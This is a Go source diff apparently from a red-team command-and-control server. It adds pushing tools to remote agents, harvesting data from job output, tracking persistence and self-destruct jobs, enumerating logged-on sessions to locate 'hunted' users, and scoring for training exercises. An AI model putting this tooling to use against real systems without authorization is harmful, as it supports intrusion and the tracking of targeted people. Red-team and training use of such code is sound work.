+		m.Type = "FileTransfer"
+		tool, err := tools.Find(job.Args[0], Agents[agentID].Platform)
+		if err != nil {
+			return m, err
+		}
+		toolFile, err := tools.Read(tool)
+		if err != nil {
+			return m, err
+		}
+		dest := path.Base(tool.File)
+		if len(job.Args) > 1 && job.Args[1] != "" {
+			dest = job.Args[1]
+		}
+		Log(agentID, fmt.Sprintf("Sending the %s tool for %s of size %d bytes and SHA-256: %s to agent at %s",
+			tool.Name,
+			tool.Platform,
+			len(toolFile),
+			tool.SHA256,
+			dest))
+
+		p := messages.FileTransfer{
+			FileLocation: dest,
+			FileBlob:     base64.StdEncoding.EncodeToString(toolFile),
+			IsDownload:   true, // The agent will be downloading the file provided by the server in the FileBlob field
+			Job:          job.ID,
+			SHA256:       tool.SHA256,
+		}
+		m.Payload = p
 	default:
 		m.Type = "ServerOk"
 		return m, errors.New("invalid job type, sending ServerOK")
@@ -807,14 +1296,18 @@ func GetAgentStatus(agentID uuid.UUID) string {
 	if !isAgent(agentID) {
 		return fmt.Sprintf("%s is not a valid agent", agentID.String())
 	}
-	dur, errDur := time.ParseDuration(Agents[agentID].WaitTime)
+	if Agents[agentID].Pending {
+		return "Pending"
+	}
+	_, errDur := time.ParseDuration(Agents[agentID].WaitTime)
 	if errDur != nil {
 		message("warn", fmt.Sprintf("Error converting %s to a time duration: %s", Agents[agentID].WaitTime,
 			errDur.Error()))
 	}
-	if Agents[agentID].StatusCheckIn.Add(dur).After(time.Now()) {
+	delayed, dead := Thresholds(agentID)
+	if statusDeadline(agentID, delayed).After(time.Now()) {
 		status = "Active"
-	} else if Agents[agentID].StatusCheckIn.Add(dur * time.Duration(Agents[agentID].MaxRetry+1)).After(time.Now()) { // +1 to account for skew
+	} else if statusDeadline(agentID, dead).After(time.Now()) {
 		status = "Delayed"
 	} else {
 		status = "Dead"
@@ -826,9 +1319,12 @@ func GetAgentStatus(agentID uuid.UUID) string {
 func RemoveAgent(agentID uuid.UUID) error {
 	if isAgent(agentID) {
 		delete(Agents, agentID)
+		if err := storage.Current().RemoveAgent(agentID); err != nil {
+			return fmt.Errorf("agent %s was removed but there was an error removing it from storage:\r\n%s", agentID, err.Error())
+		}
 		return nil
 	}
-	return fmt.Errorf("%s is not a known agent and was not removed", agentID.String())
+	return api.Errorf(api.AgentNotFound, "%s is not a known agent and was not removed", agentID.String())
 
 }
 
@@ -847,7 +1343,7 @@ func GetAgentFieldValue(agentID uuid.UUID, field string) (string, error) {
 		}
 		return "", fmt.Errorf("the provided agent field could not be found: %s", field)
 	}
-	return "", fmt.Errorf("%s is not a valid agent", agentID.String())
+	return "", api.Errorf(api.AgentNotFound, "%s is not a valid agent", agentID)
 }
 
 // isAgent enumerates a map of all instantiated agents and returns true if the provided agent UUID exists
@@ -907,7 +1403,7 @@ func newAgent(agentID uuid.UUID) (agent, error) {
 	agent.agentLog = f
 	agent.InitialCheckIn = time.Now().UTC()
 	agent.StatusCheckIn = time.Now().UTC()
-	agent.channel = make(chan []Job, 10)
+	agent.sent = make(map[string]Job)
 
 	_, errAgentLog := agent.agentLog.WriteString(fmt.Sprintf("[%s]%s\r\n", time.Now().UTC().Format(time.RFC3339), "Instantiated agent"))
 	if errAgentLog != nil {
@@ -920,6 +1416,40 @@ func newAgent(agentID uuid.UUID) (agent, error) {
 	return agent, nil
 }
 
+// score checks a job that succeeded against the scoring rules and announces any points that were awarded
+func score(agentID uuid.UUID, job Job, output string) {
+	if !scoring.Enabled() {
+		return
+	}
+	r := scoring.Result{
+		Agent:  agentID.String(),
+		Host:   Agents[agentID].HostName,
+		User:   Agents[agentID].UserName,
+		Job:    job.ID,
+		Type:   job.Type,
+		Args:   job.Args,
+		Output: output,
+	}
+	for _, s := range scoring.Check(r) {
+		m := fmt.Sprintf("Scored %d points for %s on %s with job %s", s.Points, s.Rule, s.Host, s.Job)
+		message("success", m)
+		logging.Server(m)
+		Log(agentID, m)
+	}
+}
+
+// NewSimulated creates an agent that is not running on a real host, such as the training agents used in demo mode, and
+// adds it to the global agents map. Simulated agents are never saved to the server's store.
+func NewSimulated(agentID uuid.UUID) error {
+	agent, err := newAgent(agentID)
+	if err != nil {
+		return err
+	}
+	agent.simulated = true
+	Agents[agentID] = &agent
+	return nil
+}
+
 // JobResults handles the response message sent by the agent
 func JobResults(m messages.Base) error {
 	if core.Debug {
@@ -928,25 +1458,79 @@ func JobResults(m messages.Base) error {
 
 	// Check to make sure it is a known agent
 	if !isAgent(m.ID) {
-		return fmt.Errorf("%s is not a known agent", m.ID)
+		return api.Errorf(api.AgentNotFound, "%s is not a known agent", m.ID)
 	}
 
 	// Check to make sure it was a real job for that agent
 
 	p := m.Payload.(messages.CmdResults)
 	Log(m.ID, fmt.Sprintf("Results for job: %s", p.Job))
+	publish(events.Job, m.ID, fmt.Sprintf("Job %s returned %d bytes of stdout and %d bytes of stderr", p.Job, len(p.Stdout), len(p.Stderr)))
 
 	fmt.Println()
 	message("success", fmt.Sprintf("Results for job %s at %s", p.Job, time.Now().UTC().Format(time.RFC3339)))
 	fmt.Println()
 	if len(p.Stdout) > 0 {
 		Log(m.ID, fmt.Sprintf("Command Results (stdout):\r\n%s", p.Stdout))
-		color.Green(p.Stdout)
+		if highlight.Format(p.Stdout) != "" {
+			out, folded := highlight.Render(p.Stdout, highlight.Fold)
+			fmt.Println(out)
+			if folded {
+				if storage.Current().Name() == "memory" {
+					message("note", "Long sections were folded; the full output is in the agent's log file")
+				} else {
+					message("note", fmt.Sprintf("Long sections were folded; use \"results %s\" in the agent menu to view the full output", p.Job))
+				}
+			}
+		} else {
+			color.Green(p.Stdout)
+		}
 	}
 	if len(p.Stderr) > 0 {
 		Log(m.ID, fmt.Sprintf("Command Results (stderr):\r\n%s", p.Stderr))
 		color.Red(p.Stderr)
 	}
+	if !Agents[m.ID].simulated {
+		err := storage.Current().AddResult(m.ID, storage.Result{Job: p.Job, Time: time.Now().UTC(), Stdout: p.Stdout, Stderr: p.Stderr})
+		if err != nil {
+			message("warn", fmt.Sprintf("there was an error saving the results for job %s:\r\n%s", p.Job, err.Error()))
+		}
+	}
+	if len(p.Created) > 0 {
+		recordCleanup(m.ID, p.Job, p.Created)
+	}
+	if len(p.Stdout) > 0 {
+		harvest(m.ID, p.Job, p.Stdout)
+		discover(m.ID, p.Job, p.Stdout)
+		webhook.CheckOutput(m.ID.String(), Agents[m.ID].HostName, p.Job, p.Stdout)
+	}
+	moduleResult(m.ID, p)
+	broadcastResult(m.ID, p)
+	job := Agents[m.ID].sent[p.Job]
+	delete(Agents[m.ID].sent, p.Job)
+	attackResult(m.ID, p.Job, job)
+	if job.Type == "move" {
+		moveResult(p.Job, len(p.Stderr) > 0)
+	}
+	if job.Type == "selfdestruct" {
+		// The agent reports what it removed and what it could not remove in the same result
+		recordSelfDestruct(m.ID, job, p.Removed, p.Stderr)
+	}
+	if len(p.Stderr) == 0 {
+		score(m.ID, job, p.Stdout)
+		switch job.Type {
+		case "firewall":
+			recordFirewall(m.ID, job)
+		case "persist":
+			recordPersistence(m.ID, job)
+		}
+	} else if repeating(m.ID, job.Type) > 0 {
+		// A periodic job, such as a screenshot on an agent that can not take them, would fail the same way every time
+		_ = repeatJob(m.ID, job.Type, nil, 0, false)
+		stopped := fmt.Sprintf("Stopped queuing a %s job every interval because job %s failed", job.Type, p.Job)
+		message("note", stopped)
+		Log(m.ID, stopped)
+	}
 
 	if core.Debug {
 		message("debug", "Leaving agents.JobResults")
@@ -963,7 +1547,7 @@ func FileTransfer(m messages.Base) error {
 
 	// Check to make sure it is a known agent
 	if !isAgent(m.ID) {
-		return fmt.Errorf("%s is not a known agent", m.ID)
+		return api.Errorf(api.AgentNotFound, "%s is not a known agent", m.ID)
 	}
 
 	p := m.Payload.(messages.FileTransfer)
@@ -999,6 +1583,11 @@ func FileTransfer(m messages.Base) error {
 
 		message("success", successMessage)
 		Log(m.ID, successMessage)
+		publish(events.Job, m.ID, fmt.Sprintf("Job %s downloaded %s", p.Job, p.FileLocation))
+		harvest(m.ID, p.Job, string(downloadBlob))
+		job := Agents[m.ID].sent[p.Job]
+		delete(Agents[m.ID].sent, p.Job)
+		score(m.ID, job, string(downloadBlob))
 	}
 	if core.Debug {
 		message("debug", "Leaving agents.FileTransfer")
@@ -1006,6 +1595,73 @@ func FileTransfer(m messages.Base) error {
 	return nil
 }
 
+// UserSessions handles the sessions or logged on users enumerated by an agent and adds them to the target inventory
+func UserSessions(m messages.Base) error {
+	if core.Debug {
+		message("debug", "Entering into agents.UserSessions")
+	}
+
+	// Check to make sure it is a known agent
+	if !isAgent(m.ID) {
+		return api.Errorf(api.AgentNotFound, "%s is not a known agent", m.ID)
+	}
+
+	p := m.Payload.(messages.UserSessions)
+	delete(Agents[m.ID].sent, p.Job)
+	publish(events.Job, m.ID, fmt.Sprintf("Job %s enumerated %d sessions with %s", p.Job, len(p.Sessions), p.Method))
+	host := p.Host
+	if host == "" {
+		host = Agents[m.ID].HostName
+	}
+	Log(m.ID, fmt.Sprintf("Results for job: %s", p.Job))
+
+	fmt.Println()
+	message("success", fmt.Sprintf("Results for job %s at %s", p.Job, time.Now().UTC().Format(time.RFC3339)))
+	fmt.Println()
+
+	if len(p.Stderr) > 0 {
+		Log(m.ID, fmt.Sprintf("%s error for %s:\r\n%s", p.Method, host, p.Stderr))
+		color.Red(p.Stderr)
+		fmt.Println()
+		return nil
+	}
+
+	var locations []targets.UserLocation
+	table := tablewriter.NewWriter(os.Stdout)
+	table.SetHeader([]string{"Domain", "User", "Session", "Station", "State", "Client", "Logon Server"})
+	for _, s := range p.Sessions {
+		Log(m.ID, fmt.Sprintf("%s on %s found user %s\\%s session: %d, station: %s, state: %s, client: %s, server: %s",
+			p.Method, host, s.Domain, s.UserName, s.SessionID, s.Station, s.State, s.Client, s.Server))
+		table.Append([]string{s.Domain, s.UserName, strconv.FormatUint(uint64(s.SessionID), 10), s.Station, s.State, s.Client, s.Server})
+		locations = append(locations, targets.UserLocation{
+			UserName:  s.UserName,
+			Domain:    s.Domain,
+			SessionID: s.SessionID,
+			State:     s.State,
+			Client:    s.Client,
+		})
+	}
+	targets.AddUserLocations(m.ID, host, p.Method, locations)
+	for _, s := range p.Sessions {
+		if targets.IsHunted(s.Domain, s.UserName) {
+			hunted := fmt.Sprintf("Hunted user %s\\%s found on %s by agent %s", s.Domain, s.UserName, host, m.ID)
+			message("success", hunted)
+			Log(m.ID, hunted)
+		}
+	}
+
+	message("info", fmt.Sprintf("%s found %d sessions on %s", p.Method, len(p.Sessions), host))
+	if len(p.Sessions) > 0 {
+		table.Render()
+	}
+
+	if core.Debug {
+		message("debug", "Leaving agents.UserSessions")
+	}
+	fmt.Println()
+	return nil
+}
+
 // GetLifetime returns the amount an agent could live without successfully communicating with the server
 func GetLifetime(agentID uuid.UUID) (time.Duration, error) {
 	if core.Debug {
@@ -1013,7 +1669,7 @@ func GetLifetime(agentID uuid.UUID) (time.Duration, error) {
 	}
 	// Check to make sure it is a known agent
 	if !isAgent(agentID) {
-		return 0, fmt.Errorf("%s is not a known agent", agentID)
+		return 0, api.Errorf(api.AgentNotFound, "%s is not a known agent", agentID)
 	}
 
 	// Check to see if PID is set to know if the first AgentInfo message has been sent
@@ -1060,11 +1716,14 @@ func GetLifetime(agentID uuid.UUID) (time.Duration, error) {
 
 // Job is a structure for holding data for single task assigned to a single agent
 type Job struct {
-	ID      string
-	Type    string
-	Status  string // Valid Statuses are created, sent, returned //TODO this might not be needed
-	Args    []string
-	Created time.Time
+	ID       string
+	Type     string
+	Status   string // Valid Statuses are created, sent, returned //TODO this might not be needed
+	Args     []string
+	Created  time.Time
+	After    time.Time // The job is embargoed and not sent to the agent before this time
+	Barrier  string    // The barrier holding the job until every one of its agents is ready; empty if there is none
+	Priority int       // Jobs with a higher priority are sent before jobs queued earlier; PriorityNormal by default
 }
 
 // TODO configure all message to be displayed on the CLI to be returned as errors and not written to the CLI here